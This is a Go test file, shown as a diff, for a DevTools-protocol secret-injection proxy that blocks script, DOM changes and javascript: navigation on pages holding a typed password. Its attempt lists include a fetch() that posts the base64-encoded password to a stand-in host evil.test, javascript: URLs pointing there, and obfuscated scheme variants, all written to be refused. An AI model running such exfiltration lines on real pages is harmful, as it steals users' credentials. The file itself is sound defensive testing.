@@ -1,0 +1,220 @@
+package inject
+
+import (
+	"encoding/json"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/prometheus/client_golang/prometheus/testutil"
+)
+
+const taintRefusal = "refused: secret pw was typed into a page of "
+
+// taintedEnv opens acme.test's login page with taints on, takes a handle
+// on document.body (before anything is typed) and types the placeholder
+// into the password field the way Playwright's fill() does.
+func taintedEnv(t *testing.T) (e *browserEnv, bodyObject string) {
+	t.Helper()
+	e = newBrowserEnvTaints(t, map[string]fakeSecret{}, []string{"pw"}, true, NewTaints())
+	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
+	e.navigate(e.site.url("acme.test", "/login"))
+	var res struct {
+		Result struct{ ObjectID string } `json:"result"`
+	}
+	_ = json.Unmarshal(e.cl.must(e.sid, "Runtime.evaluate", map[string]any{"expression": "document.body"}), &res)
+	e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
+	if err := e.typeText("fill", "<<secret:pw>>"); err != nil {
+		t.Fatalf("typing the placeholder: %v", err)
+	}
+	if e.taints.Len() != 1 {
+		t.Fatalf("%d tainted documents after the injection, want 1", e.taints.Len())
+	}
+	return e, res.Result.ObjectID
+}
+
+func wantTaintRefusal(t *testing.T, what string, err error) {
+	t.Helper()
+	var ce *cdpError
+	if !errors.As(err, &ce) || !strings.Contains(ce.msg, taintRefusal) || !strings.HasPrefix(ce.msg, "cdpvault: ") {
+		t.Errorf("%s: got %v, want a cdpvault taint refusal", what, err)
+	}
+}
+
+// submitWithEnter presses Enter in the focused field (implicit form
+// submission: input only, no script) and returns what the site received.
+func (e *browserEnv) submitWithEnter() string {
+	e.t.Helper()
+	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "keyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": "\r"})
+	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "keyUp", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13})
+	select {
+	case got := <-e.site.subs:
+		return got
+	case <-time.After(20 * time.Second):
+		e.t.Fatal("Enter submitted nothing")
+		return ""
+	}
+}
+
+func TestChromiumTaintRefusesScriptUntilNavigation(t *testing.T) {
+	t.Parallel()
+	e, body := taintedEnv(t)
+
+	// Every way to run script next to the value, change the document or hand
+	// the page code is refused while the value is in it.
+	attempts := []struct {
+		method string
+		params any
+	}{
+		{"Runtime.evaluate", map[string]any{"expression": `document.getElementById('pass').value.split('').reverse().join('')`, "returnByValue": true}},
+		{"Runtime.evaluate", map[string]any{"expression": `fetch('http://evil.test:` + e.site.port + `/beacon', {method: 'POST', mode: 'no-cors', body: btoa(document.getElementById('pass').value)})`}},
+		{"Runtime.callFunctionOn", map[string]any{"objectId": body, "functionDeclaration": `function() { return [...this.querySelector('#pass').value].map(c => c.charCodeAt(0)); }`, "returnByValue": true}},
+		{"Runtime.getProperties", map[string]any{"objectId": body}},
+		{"Runtime.compileScript", map[string]any{"expression": "1", "sourceURL": "", "persistScript": true}},
+		{"Page.navigate", map[string]any{"url": " JavaScript:fetch('http://evil.test/')"}},
+		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "1", "runImmediately": true}},
+		{"DOM.setAttributeValue", map[string]any{"nodeId": 1, "name": "type", "value": "text"}},
+		{"DOM.setOuterHTML", map[string]any{"nodeId": 1, "outerHTML": "<p>"}},
+		{"CSS.addRule", map[string]any{"styleSheetId": "1", "ruleText": "input{}", "location": map[string]any{}}},
+		{"Debugger.evaluateOnCallFrame", map[string]any{"callFrameId": "1", "expression": "1"}},
+		{"Fetch.fulfillRequest", map[string]any{"requestId": "1", "responseCode": 200}},
+	}
+	for _, a := range attempts {
+		res, err := e.cl.send(e.sid, a.method, a.params)
+		if a.method == "Runtime.evaluate" || a.method == "Runtime.callFunctionOn" {
+			// Answered as an exception, which every client shows with its
+			// reason (Playwright hides protocol errors of these).
+			var out struct {
+				ExceptionDetails struct {
+					Exception struct{ Description string }
+				}
+			}
+			_ = json.Unmarshal(res, &out)
+			err = nil
+			if d := out.ExceptionDetails.Exception.Description; d != "" {
+				err = &cdpError{strings.TrimPrefix(d, "Error: ")}
+			}
+		}
+		wantTaintRefusal(t, a.method, err)
+	}
+	if n := testutilCounter(e.metrics()); n != float64(len(attempts)) {
+		t.Errorf("tainted refusals counted %v, want %d", n, len(attempts))
+	}
+
+	// A second connection to the same browser (one per client WebSocket,
+	// sharing the session's taints) is no way round.
+	c2 := dialCDP(t, e.wsURL, e.interceptor())
+	cl2 := &cdpClient{c: c2}
+	ti, _ := e.conn.Target(e.sid)
+	var at struct{ SessionID string }
+	_ = json.Unmarshal(cl2.must("", "Target.attachToTarget", map[string]any{"targetId": ti.TargetID, "flatten": true}), &at)
+	_, err := cl2.send(at.SessionID, "Runtime.getProperties", map[string]any{"objectId": body})
+	wantTaintRefusal(t, "second connection", err)
+
+	// Reading without script and typing still work.
+	if _, err := e.cl.send(e.sid, "DOM.getDocument", map[string]any{}); err != nil {
+		t.Errorf("DOM.getDocument on a tainted page: %v", err)
+	}
+	if got, want := e.submitWithEnter(), "acme.test \x00"+plainValue; got != want {
+		t.Errorf("site received %q, want %q", got, want)
+	}
+	// The submission committed another document: script runs again.
+	deadline := time.Now().Add(15 * time.Second)
+	for string(e.cl.evalNoFail(e.sid, `document.body.textContent`)) != `"ok"` {
+		if time.Now().After(deadline) {
+			t.Fatalf("script still refused after the page navigated (taints %d)", e.taints.Len())
+		}
+		time.Sleep(10 * time.Millisecond) // polling the browser with a deadline
+	}
+	if e.taints.Len() != 0 {
+		t.Errorf("%d taints after navigation", e.taints.Len())
+	}
+	if e.site.received("evil.test", plainValue) || e.site.received("evil.test", "") {
+		t.Error("evil.test received a request")
+	}
+}
+
+func TestChromiumTaintOutlivesTypingConnection(t *testing.T) {
+	t.Parallel()
+	e, _ := taintedEnv(t)
+	c2 := dialCDP(t, e.wsURL, e.interceptor())
+	cl2 := &cdpClient{c: c2}
+	ti, _ := e.conn.Target(e.sid)
+	var at struct{ SessionID string }
+	_ = json.Unmarshal(cl2.must("", "Target.attachToTarget", map[string]any{"targetId": ti.TargetID, "flatten": true}), &at)
+
+	// The connection that typed the value goes away; the page stays.
+	e.conn.in.Close()
+	_ = e.conn.ws.Close()
+	<-e.conn.closed
+	_, err := cl2.send(at.SessionID, "DOM.setAttributeValue", map[string]any{"nodeId": 1, "name": "type", "value": "text"})
+	wantTaintRefusal(t, "after the typing connection closed", err)
+
+	// Closing the page ends the taint.
+	cl2.must("", "Target.closeTarget", map[string]any{"targetId": ti.TargetID})
+	var ct struct{ TargetID string }
+	_ = json.Unmarshal(cl2.must("", "Target.createTarget", map[string]any{"url": "about:blank"}), &ct)
+	var at2 struct{ SessionID string }
+	_ = json.Unmarshal(cl2.must("", "Target.attachToTarget", map[string]any{"targetId": ct.TargetID, "flatten": true}), &at2)
+	deadline := time.Now().Add(15 * time.Second)
+	for {
+		_, err := cl2.send(at2.SessionID, "Runtime.getProperties", map[string]any{"objectId": "1.1.1"})
+		if err == nil || !strings.Contains(err.Error(), taintRefusal) {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("script refused after the tainted page closed: %v", err)
+		}
+		time.Sleep(10 * time.Millisecond) // the close is asynchronous in the browser
+	}
+}
+
+func TestChromiumNoTaintWithoutInjection(t *testing.T) {
+	t.Parallel()
+	e := newBrowserEnvTaints(t, map[string]fakeSecret{}, []string{"pw"}, true, NewTaints())
+	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
+	e.navigate(e.site.url("evil.test", "/login"))
+	e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
+	// A refused injection (wrong origin) types nothing and taints nothing.
+	if err := e.typeText("fill", "<<secret:pw>>"); err == nil {
+		t.Fatal("injection on evil.test was not refused")
+	}
+	if e.taints.Len() != 0 {
+		t.Fatalf("%d taints after a refused injection", e.taints.Len())
+	}
+	e.cl.eval(e.sid, `document.title`)
+}
+
+func TestGated(t *testing.T) {
+	t.Parallel()
+	cases := []struct {
+		method, raw string
+		want        bool
+	}{
+		{"Runtime.evaluate", `{}`, true},
+		{"Runtime.callFunctionOn", `{}`, true},
+		{"Runtime.releaseObject", `{}`, false},
+		{"DOM.getDocument", `{}`, false},
+		{"DOM.setAttributeValue", `{}`, true},
+		{"Input.dispatchMouseEvent", `{}`, false},
+		{"Page.navigate", `{"params":{"url":"https://acme.test/"}}`, false},
+		{"Page.navigate", `{"params":{"url":"javascript:alert(1)"}}`, true},
+		{"Page.navigate", `{"params":{"url":"\u0000 jAvAsCrIpT:x"}}`, true},
+		{"Page.navigate", `{"params":{"url":"java\tscript:x"}}`, true},
+		{"Page.navigate", `not json`, true},
+		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"1"}}`, false},
+		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"1","runImmediately": false}}`, false},
+		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"1","runImmediately" : true}}`, true},
+		{"Fetch.continueRequest", `{"params":{"requestId":"1"}}`, false},
+		{"Fetch.continueRequest", `{"params":{"requestId":"1","url":"data:text/javascript,1"}}`, true},
+		{"Fetch.fulfillRequest", `{}`, true},
+	}
+	for _, c := range cases {
+		if got := Gated(c.method, []byte(c.raw)); got != c.want {
+			t.Errorf("Gated(%s, %s) = %v, want %v", c.method, c.raw, got, c.want)
+		}
+	}
+}
+
+func testutilCounter(m *Metrics) float64 { return testutil.ToFloat64(m.tainted) }
